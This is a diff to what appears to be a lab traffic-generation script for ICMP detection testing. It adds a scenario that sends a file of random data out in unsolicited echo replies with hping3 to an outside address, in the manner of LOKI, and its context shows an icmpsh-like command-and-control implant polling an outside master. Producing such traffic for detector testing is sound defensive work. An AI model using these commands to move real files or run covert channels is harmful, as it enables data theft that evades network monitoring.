@@ -30,6 +30,7 @@
 #   sweep_slow_fping    fping, one probe every 3 s, over 10.78.0.48/28 (about 50 s)
 #   sweep6_fping        fping -6 over fd78::20 - fd78::3f
 #   traceroute_many     traceroute -I, traceroute -U and mtr -u -r to three outside and inside hosts
+#   exfil_reply_loki    a file sent out in unsolicited echo replies (hping3 -1 -C 0 -E), as LOKI did
 #   c2_icmpsh_like      a command channel in the manner of icmpsh (icmp_c2.py): the implant polls an
 #                       outside master every second, commands come back in echo replies, output
 #                       goes out in echo requests (about 80 s)
@@ -113,6 +114,9 @@ case $sc in
     x ih_atk timeout 95 python3 "$here/icmp_c2.py" implant 203.0.113.7 85
     kill "$m" 2>/dev/null; wait "$m" 2>/dev/null
     x ih_ext sysctl -qw net.ipv4.icmp_echo_ignore_all=0 ;;
+  exfil_reply_loki)
+    head -c 40000 /dev/urandom | base64 > /tmp/ih_loki
+    x ih_atk timeout 40 hping3 -1 -C 0 -E /tmp/ih_loki -d 400 -c 80 -i u300000 -q 203.0.113.7 >/dev/null 2>&1 ;;
   *) echo "unknown scenario $sc" >&2; kill "$cap"; exit 2 ;;
 esac
 sleep 2
